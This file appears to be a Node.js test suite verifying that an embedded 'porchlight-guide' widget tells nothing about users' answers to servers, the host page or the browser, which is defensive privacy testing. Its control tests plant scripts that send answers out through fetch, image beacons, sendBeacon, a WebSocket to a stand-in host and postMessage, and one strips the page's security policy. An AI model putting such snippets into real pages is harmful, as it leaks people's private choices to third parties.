// What a session tells the outside is the same whatever a person answers: two requests, a few fixed words, a few heights.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { setTimeout as sleep } from 'node:timers/promises';
import { startChromium } from './lib/browsers.mjs';
import { edited } from './lib/faults.mjs';
import { TAG, enterFrame, hostPage, openGuide } from './lib/host.mjs';
import { DOCUMENT } from './lib/servers.mjs';
import { nothingWentWrong, stage } from './lib/stage.mjs';
import { FIRST, LAST, MIDDLE, NOTHING, PATHS, walk } from './lib/walk.mjs';
import { noted } from './lib/watch.mjs';

const on = stage(startChromium);

/** Higher than all that a frame can be, so that nothing but the frame's own wish decides its height. */
const TALL = { width: 1280, height: 2400, deviceScaleFactor: 1, mobile: false };
/** For what is still on its way when a walk has ended. Nothing is waited for that should come. */
const AFTERWARDS = 300;

/** One walk from a fresh load, and all that was told outside by it: to servers, to the host page, to its window. */
async function session(path, answers, { page = on.host.embed('agency') } = {}) {
  on.devtools.forget();
  on.guide.log.length = 0;
  on.host.log.length = 0;
  await on.devtools.page('Emulation.setDeviceMetricsOverride', TALL);
  try {
    await openGuide(on.driver, page);
    const loaded = { guide: on.guide.log.length, host: on.host.log.length, seen: wire().length };
    const screens = await walk(on.driver, path, { answers });
    await sleep(AFTERWARDS);
    const { messages, heights, events: said, errors } = await noted(on.driver);
    // When it was said is another matter of each load.
    const events = said.map(({ name, cause, detail }) => ({ name, cause, detail }));
    const outside = await on.driver.executeScript(`return {
      history: history.length, address: location.href, title: document.title, frames: window.length, name: window.name,
      resources: performance.getEntriesByType('resource').map(entry => entry.name),
      guide: document.querySelector('porchlight-guide').outerHTML,
      frame: [...document.querySelector('porchlight-guide').shadowRoot.querySelector('iframe').attributes]
        .filter(({ name }) => name !== 'cd_frame_id_').map(({ name, value }) => name + '=' + value),   // that one is WebDriver's
      kept: [document.cookie, localStorage.length, sessionStorage.length],
    }`);
    // Each load of the host page adds to the history of this tab; a walk must not.
    outside.history -= screens[0].history;
    return {
      screens, loaded,
      told: {
        requests: on.guide.log.map(({ method, path: address, headers }) => ({ method, address, headers })),
        hostRequests: on.host.log.map(({ method, path: address }) => ({ method, address })),
        wire: wire().map(({ url, method, type, where }) => ({ url: url.slice(0, 200), method, type, where })),
        messages: messages.map(({ origin, data }) => `${origin} ${data}`),
        heights, events, errors, outside,
      },
    };
  } finally {
    await on.devtools.page('Emulation.clearDeviceMetricsOverride');
  }
}

/** What went out of the page and its frames. */
const wire = () => on.devtools.seen.requests;

/** Two requests to the guide, nothing after the load, nothing refused, no more than three heights. */
function isSilent({ loaded, told }) {
  assert.deepEqual(told.requests.map(({ method, address }) => `${method} ${address.replace(/^\/[0-9a-f]{16}\//, '/<hash>/')}`),
    ['GET /v1/porchlight.js', 'GET /<hash>/louisiana/en.html'], 'the loader and the document, and nothing else');
  assert.equal(loaded.guide, 2, 'both came before the guide ran');
  assert.equal(told.hostRequests.length, loaded.host, 'nothing is asked of the host page\'s server after the load');
  assert.deepEqual(told.wire.slice(loaded.seen), [], 'nothing goes out of the page or of the frame after the load');
  assert.equal(told.wire.filter(({ url }) => url.startsWith(on.guide.origin)).length, 2, `what the browser saw is what the server saw: ${told.wire.map(({ url }) => url)}`);
  for (const { headers } of told.requests) assert.equal(headers.cookie, undefined, 'no cookie');
  assert.equal(told.requests[1].headers.referer, undefined, 'the document is not told which page it stands on');
  assert.ok(told.heights.length <= 3, `at most three heights: ${told.heights}`);
  assert.deepEqual(told.errors, [], 'no error on the host page');
  assert.deepEqual(told.outside.kept, ['', 0, 0], 'nothing is kept in the browser');
  assert.equal(told.outside.history, 0, 'no entry in the history');
  nothingWentWrong(on.devtools);
}

test('every walk tells the same, whatever the path and the answers', async t => {
  let first;
  const walked = new Set();
  for (const path of PATHS) {
    for (const [name, answers] of Object.entries({ FIRST, MIDDLE, LAST, NOTHING })) {
      const one = await session(path, answers);
      isSilent(one);
      walked.add(JSON.stringify(one.screens.map(({ given }) => given)));
      if (!first) {
        first = one;
        t.diagnostic(`messages: ${one.told.messages.join(' | ')}`);
        t.diagnostic(`heights: ${one.told.heights}`);
        t.diagnostic(`seen by the browser: ${one.told.wire.map(({ url, where }) => `${where} ${url}`).join(' | ')}`);
      }
      assert.deepEqual(one.told, first.told, `${path} with ${name} answers tells the same as ${PATHS[0]}`);
    }
  }
  assert.equal(walked.size, PATHS.length * 4, 'the walks were different ones');
});

/** The document with a planted script in front of its own policy, which is weakened as far as the plant needs it. */
const planted = (script, { policy = false } = {}) => edited(html => {
  const open = policy ? html : html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
  const changed = open.replace('<head>', () => `<head><script>${script}</script>`);
  assert.notEqual(changed, html, 'the plant is in the document');
  return changed;
});

const onAnswer = what => `addEventListener('change', event => { if (event.target.name !== 'path') { ${what} } });`;

const controls = {
  'a request to the guide that an answer makes': [/the loader and the document/, `fetch('{{guide}}/told?' + event.target.value, { mode: 'no-cors' }).catch(() => {});`],
  'a request to the host that an answer makes': [/asked of the host page/, `new Image().src = '{{host}}/told?' + event.target.value;`],
  'a request to elsewhere that an answer makes': [/goes out of the page/, `new Image().src = 'http://127.0.0.3:9/told?' + event.target.value;`],
  'a beacon when an answer is given': [/the loader and the document/, `navigator.sendBeacon('{{guide}}/told', event.target.value);`],
  'a socket that is opened': [/goes out of the page/, `new WebSocket('ws://127.0.0.3:9/told');`],
  'an error in the console': [/errors and warnings/, `console.error('told');`],
  'an error that nobody catches': [/uncaught/, `setTimeout(() => { throw new Error('told'); });`],
};

for (const [name, [message, script]] of Object.entries(controls)) {
  test(`the check of silence fails on ${name}`, async () => {
    on.guide.fault(DOCUMENT, planted(onAnswer(script).replaceAll('{{guide}}', on.guide.origin).replaceAll('{{host}}', on.host.origin)));
    const one = await session('explore', FIRST);
    assert.throws(() => isSilent(one), message);
  });
}

test('the check of silence fails on a request that the policy refuses', async () => {
  on.guide.fault(DOCUMENT, planted(onAnswer(`fetch('${on.guide.origin}/told').catch(() => {});`), { policy: true }));
  const one = await session('explore', FIRST);
  assert.equal(one.told.requests.length, 2, 'the policy keeps the request from going out');
  assert.ok(on.devtools.seen.violations.some(({ directive }) => directive === 'connect-src'), `the violation is seen: ${JSON.stringify(on.devtools.seen.violations)}`);
  assert.throws(() => isSilent(one), /violations of a policy/);
});

test('the check of sameness fails on messages that follow the answers', async () => {
  const tell = planted(onAnswer(`parent.postMessage('porchlight:' + event.target.value, '*');`));
  on.guide.fault(DOCUMENT, tell);
  const [one, other] = [await session('explore', FIRST), await session('explore', LAST)];
  assert.notDeepEqual(one.told.messages, other.told.messages);
});

test('the check of heights fails on a guide that takes the height of its content', async () => {
  const page = on.host.show(hostPage(TAG, { after: `<script>
    let height = 300;
    addEventListener('message', () => { const guide = document.querySelector('porchlight-guide'); height += 50; guide.style.height = height + 'px'; });
    </script>` }));
  // A guide that tells each screen: the page follows with a height for each.
  on.guide.fault(DOCUMENT, planted(`addEventListener('click', () => parent.postMessage('anything', '*'));`));
  const one = await session('explore', FIRST, { page });
  assert.ok(one.told.heights.length > 3, `${one.told.heights}`);
  assert.throws(() => isSilent(one), /at most three heights/);
});

test('a host page that listens for all it can hears nothing from the guide but its few words', async () => {
  const page = on.host.show(hostPage(TAG, { head: `<script>
    window.heard = [];
    for (const name of ['click', 'pointerdown', 'keydown', 'keyup', 'input', 'change', 'focusin', 'submit', 'scroll', 'copy']) {
      addEventListener(name, event => heard.push(name + ' ' + (event.key ?? event.target?.localName ?? '')), true);
    }</script>` }));
  const heardIn = async answers => {
    const { told } = await session('explore', answers, { page });
    return { heard: await on.driver.executeScript('return window.heard'), messages: told.messages };
  };
  const [one, other] = [await heardIn(FIRST), await heardIn(LAST)];
  assert.deepEqual(one, other, 'different answers, the same sounds');
  for (const sound of one.heard) assert.match(sound, /^(focusin porchlight-guide|scroll .*)$/, 'no press and no key is heard');
  // The page does hear what is done on itself.
  await on.driver.switchTo().defaultContent();
  await (await on.driver.findElement({ css: 'h1' })).click();
  assert.ok((await on.driver.executeScript('return window.heard')).some(sound => sound.startsWith('click')), 'the page listens');
  await enterFrame(on.driver);
});

test('the policy stands in the document where docs/privacy.md leads people', async () => {
  const lines = (await (await fetch(on.guide.page)).text()).split('\n', 20);
  assert.equal(lines.filter(line => line.startsWith('<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; ')).length, 1);
});
